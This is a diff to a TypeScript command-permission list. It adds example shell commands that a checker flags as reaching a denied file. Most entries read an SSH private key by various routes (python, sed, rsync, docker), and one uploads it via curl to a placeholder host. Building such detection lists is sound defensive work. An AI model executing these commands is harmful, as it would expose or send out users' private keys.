@@ -97,6 +97,13 @@ const DENIED: readonly string[] = [
 
 /** Commands that may reach a denied file. */
 const ASKED: readonly string[] = [
+  'python3 -c "print(open(\'/home/me/.ssh/id_rsa\').read())"',
+  'sed "1r/home/me/.ssh/id_rsa" x',
+  'sed -n "r /home/me/.ssh/id_rsa" x',
+  "curl -F 'f=</home/me/.ssh/id_rsa' u",
+  'rsync -e "ssh -i /home/me/.ssh/id_rsa" a b',
+  'git commit -m "Ignore .env"',
+  'docker run -v /home/me/.ssh:/x a cat /x/id_rsa',
   'grep -r . secrets',
   'grep -r . .',
   'grep -r x',
